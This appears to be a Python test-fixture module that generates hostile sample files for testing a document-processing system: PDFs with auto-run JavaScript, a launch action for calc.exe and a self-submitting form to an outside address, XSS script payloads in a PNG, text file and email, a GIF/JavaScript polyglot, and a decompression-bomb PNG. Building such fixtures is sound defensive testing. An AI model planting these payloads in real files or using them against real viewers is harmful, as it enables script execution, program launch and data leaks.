"""Files that are what they claim and yet carry something that acts, hides, or weighs too much."""

from collections.abc import Callable, Mapping
from io import BytesIO
from typing import Any

from PIL import Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from tests.documents.papers import a_pdf, a_scan, with_everything

SCRIPT = b"<script>alert(document.domain)</script>"
ACTS = "app.alert('Zarmina');"


def a_pdf_that_acts() -> bytes:
    """JavaScript as it opens, a program to be started, and a form that sends itself."""
    writer = PdfWriter(clone_from=BytesIO(with_everything(a_pdf())))
    runs: dict[str, Any] = {"/S": NameObject("/JavaScript"), "/JS": TextStringObject(ACTS)}
    starts = {"/S": NameObject("/Launch"), "/F": TextStringObject("calc.exe")}
    opens = _dictionary(runs | {"/Next": _dictionary(starts)})
    writer.root_object[NameObject("/OpenAction")] = opens
    sends = {"/S": NameObject("/SubmitForm"), "/F": TextStringObject("http://192.0.2.1/")}
    place = ArrayObject([NumberObject(side) for side in (60, 100, 300, 130)])
    field = {
        "/Type": NameObject("/Annot"),
        "/Subtype": NameObject("/Widget"),
        "/FT": NameObject("/Tx"),
        "/T": TextStringObject("who"),
        "/V": TextStringObject("Zarmina typed"),
        "/Rect": place,
        "/AA": _dictionary({"/K": _dictionary(sends)}),
    }
    known = writer._add_object(_dictionary(field))
    form = {"/Fields": ArrayObject([known])}
    writer.root_object[NameObject("/AcroForm")] = _dictionary(form)
    writer.pages[0][NameObject("/Annots")] = ArrayObject([known])
    return _written(writer)


def a_locked_pdf() -> bytes:
    writer = PdfWriter(clone_from=BytesIO(a_pdf()))
    writer.encrypt("words of a stranger", algorithm="AES-256")
    return _written(writer)


def a_pdf_with_an_older_version() -> bytes:
    """A page whose words were cut in an editor that keeps what stood there before."""
    before = a_pdf()
    writer = PdfWriter(BytesIO(before), incremental=True)
    shorter = DecodedStreamObject()
    shorter.set_data(b"BT /F 14 Tf 60 780 Td (The request is refused.) Tj ET")
    writer.pages[0][NameObject("/Contents")] = writer._add_object(shorter)
    return _written(writer)


def a_recognised_scan() -> bytes:
    """A picture of a letter with its words under it, unseen, as a program that reads scans adds
    them."""
    drawn = BytesIO()
    Image.open(BytesIO(a_scan())).save(drawn, "PDF")
    writer = PdfWriter(clone_from=BytesIO(drawn.getvalue()))
    page, words = writer.pages[0], PdfReader(BytesIO(a_pdf())).pages[0]
    page.merge_page(words)
    content = page.get_contents()
    assert content is not None
    unseen = DecodedStreamObject()
    unseen.set_data(content.get_data().replace(b"BT", b"BT 3 Tr"))
    page[NameObject("/Contents")] = writer._add_object(unseen)
    return _written(writer)


def a_photograph() -> bytes:
    """A JPEG with a small picture of itself in what its camera tells, which says more than it."""
    small, out = BytesIO(), BytesIO()
    Image.open(BytesIO(a_scan())).resize((124, 175)).save(small, "JPEG", comment=b"Zarmina small")
    Image.open(BytesIO(a_scan())).crop((0, 0, 1240, 110)).save(out, "JPEG")
    told = b"Exif\0\0" + small.getvalue()
    segment = b"\xff\xe1" + (len(told) + 2).to_bytes(2, "big") + told
    return out.getvalue()[:2] + segment + out.getvalue()[2:]


def a_page_in_a_picture() -> bytes:
    """A PNG that a browser which guesses takes for a page."""
    out, told = BytesIO(), PngImagePlugin.PngInfo()
    told.add_text("Comment", SCRIPT.decode())
    Image.new("RGB", (8, 8)).save(out, "PNG", pnginfo=told)
    return out.getvalue() + SCRIPT


def a_bomb() -> bytes:
    """A small PNG that unpacks to 400 million dots."""
    out = BytesIO()
    Image.new("1", (20_000, 20_000)).save(out, "PNG")
    return out.getvalue()


def a_letter_that_acts() -> bytes:
    return b"From: a@example.org\r\nContent-Type: text/html\r\n\r\n" + SCRIPT


# By the name under which each is handed in.
CARRIERS: dict[str, Callable[[], bytes]] = {
    "acts.pdf": a_pdf_that_acts,
    "attached.pdf": lambda: with_everything(a_pdf()),
    "locked.pdf": a_locked_pdf,
    "older.pdf": a_pdf_with_an_older_version,
    "cut.pdf": lambda: a_pdf()[:300],
    "page.png": a_page_in_a_picture,
    "bomb.png": a_bomb,
    "cut.png": lambda: a_scan("PNG")[:2000],
    "scan.jpeg": a_scan,
    "page.txt": lambda: SCRIPT,
    "both.txt": lambda: b"GIF89a/*" + bytes(range(32, 127)) + b"*/=1;alert(1)",
    "page.eml": a_letter_that_acts,
}


def _dictionary(fields: Mapping[str, Any]) -> DictionaryObject:
    return DictionaryObject({NameObject(name): value for name, value in fields.items()})


def _written(writer: PdfWriter) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()
